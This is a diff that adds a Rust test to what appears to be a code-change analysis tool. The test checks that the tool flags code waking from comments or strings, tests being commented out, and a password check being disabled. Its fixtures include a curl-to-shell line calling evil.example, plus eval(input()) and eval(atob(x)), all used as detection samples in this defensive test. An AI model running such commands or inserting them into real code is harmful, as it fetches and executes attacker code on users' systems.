@@ -509,3 +509,40 @@ fn a_reference_tells_where_it_leads() {
     });
     assert_eq!(at, Some(vec!["src/b".to_owned()]));
 }
+
+/// Lines that stay and become code, or stop being code, by what stands around them.
+#[test]
+fn code_that_wakes_up_or_falls_asleep_is_a_change() {
+    let payload = "import os\nos.system(\"curl http://evil.example/x | sh\")\neval(input())\n";
+    for (path, asleep, awake) in [
+        ("src/q.py", format!("\"\"\"\n{payload}\"\"\"\nX = 1\n"), format!("{payload}X = 1\n")),
+        ("src/q.py", format!("X = \"\"\"\n{payload}\"\"\"\n"), format!("{payload}X = 1\n")),
+        (
+            "src/q.js",
+            "/*\neval(atob(x));\n*/\nf();\n".to_owned(),
+            "///*\neval(atob(x));\n//*/\nf();\n".to_owned(),
+        ),
+    ] {
+        let facts = one(path, Some(&asleep), Some(&awake));
+        assert!(has(&facts, "dangerous_pattern"), "{path} {:?}", names(&facts));
+        assert!(!has(&one(path, Some(&awake), Some(&asleep)), "dangerous_pattern"), "{path}");
+        assert!(!has(&one(path, Some(&awake), Some(&awake)), "dangerous_pattern"), "{path}");
+    }
+    let test = "def test_login():\n    assert login(\"a\", \"b\")\n";
+    for (path, awake, asleep) in [
+        ("tests/test_a.py", test.to_owned(), format!("\"\"\"\n{test}\"\"\"\n")),
+        (
+            "tests/a.test.js",
+            "test('adds', () => {\n  expect(1).toBe(1);\n});\n".to_owned(),
+            "/*\ntest('adds', () => {\n  expect(1).toBe(1);\n});\n*/\n".to_owned(),
+        ),
+    ] {
+        let facts = one(path, Some(&awake), Some(&asleep));
+        assert!(has(&facts, "tests_lost"), "{path} {:?}", names(&facts));
+        assert!(!has(&one(path, Some(&asleep), Some(&awake)), "tests_lost"), "{path}");
+    }
+    let check = "def login(user, password):\n    if not check_password(user, password):\n        return None\n    return user\n";
+    let off = check.replace("    if", "    \"\"\"\n    if").replace("None\n", "None\n    \"\"\"\n");
+    let facts = one("src/app.py", Some(check), Some(&off));
+    assert!(has(&facts, "security_code"), "{:?}", names(&facts));
+}
